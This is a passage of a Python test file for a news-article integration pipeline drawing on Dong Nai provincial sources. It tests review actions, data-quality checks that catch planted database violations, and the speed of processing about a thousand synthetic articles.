    assert audit[0][3] == "cùng một tin, đăng lại"
    shown = review.show(late, dsn=process_db)
    assert [a["action"] for a in shown["audit"]] == ["approve", "reopen", "approve"]
    assert shown["story"]["integrated"] is True
    assert check_quality(process_db) == []
    with pytest.raises(review.ReviewError):
        review.reject(late, "policy", "x", dsn=process_db, registry=REG)
    with pytest.raises(review.ReviewError):
        review.reject(late, "Trần Minh", "x", reason="because", dsn=process_db, registry=REG)


# --- quality --------------------------------------------------------------------------------------


def test_check_quality_reports_planted_violations(process_db: str) -> None:
    two_month_dataset(process_db)
    run(process_db, *MARCH)
    run(process_db, *APRIL)
    assert check_quality(process_db) == []
    conn = connect(process_db)
    with conn, conn.cursor() as cur:
        cur.execute("""UPDATE integration.article_source SET is_primary = false
                        WHERE story_key = (SELECT min(story_key) FROM integration.article) AND is_primary""")
    conn.close()
    failures = check_quality(process_db)
    assert len(failures) == 1 and failures[0].startswith("one_primary_per_article: 1 ")
    conn = connect(process_db)
    with conn, conn.cursor() as cur:
        cur.execute("""DELETE FROM integration.article_source WHERE story_key = (
                         SELECT max(story_key) FROM integration.article)""")
        cur.execute(
            "DELETE FROM integration.article WHERE story_key = (SELECT max(story_key) FROM integration.article)"
        )
    conn.close()
    names = {f.split(":")[0] for f in check_quality(process_db)}
    assert names == {"one_primary_per_article", "approved_item_in_one_article", "load_batch_reconciles"}


# --- performance ----------------------------------------------------------------------------------


def test_a_month_of_three_channels_processes_in_seconds(process_db: str) -> None:
    sources = [
        ("dongnai_party", "tin-hoat-dong", "/news/tin-hoat-dong/p-{n}.html"),
        ("dongnai_gov", "kinh-te", "/vi/news/kinh-te/g-{n}.html"),
        ("baodongnai", "xa-hoi", "/xa-hoi/202405/b-{n}"),
    ]
    rng = random.Random(5)
    conn = connect(process_db)
    values = []
    n = 0
    for source_id, section, path in sources:
        for _ in range(300):
            n += 1
            when = local(2024, 5, 1) + timedelta(minutes=rng.randrange(31 * 24 * 60))
            t, s, b = distinct_story(when, topic=rng.choice(("politics", "economy", "society")), lo=120, hi=400)
            values.append((source_id, BASES[source_id] + path.format(n=n), t, s, b, when, section))
    # about 12 % republished on another channel a day later
    for source_id, _url, t, s, b, when, _ in rng.sample(values, 108):
        target, section, path = rng.choice([x for x in sources if x[0] != source_id])
        n += 1
        values.append(
            (
                target,
                BASES[target] + path.format(n=n),
                t,
                s,
                b[:-1] if len(b) > 3 else b,
                when + timedelta(days=1),
                section,
            )
        )
    with conn, conn.cursor() as cur:
        from psycopg2.extras import execute_values

        execute_values(
            cur,
            """INSERT INTO staging.item (source_id, page_url, status, canonical_url, title, sapo,
                                   body_text, body_html, published_at, section, item_type, content_hash)
                               VALUES %s""",
            [
                (
                    sid,
                    url,
                    "staged",
                    url,
                    t,
                    s,
                    "\n\n".join(b),
                    "".join(f"<p>{p}</p>" for p in b),
                    when,
                    section,
                    "tin",
                    hashlib.sha256(url.encode()).hexdigest(),
                )
                for sid, url, t, s, b, when, section in values
            ],
        )
    conn.close()
    began = time.perf_counter()
    counts = run(process_db, local(2024, 5, 1), local(2024, 6, 3))
    elapsed = time.perf_counter() - began
    assert counts["normalized"] == len(values) == 1008
    assert counts["items_rekeyed"] >= 0 and counts["new"] >= 900 - 5
    assert elapsed < 20, f"{elapsed:.1f} s"
    assert check_quality(process_db) == []
    print(f"\n{len(values)} items processed in {elapsed:.2f} s: {counts}")
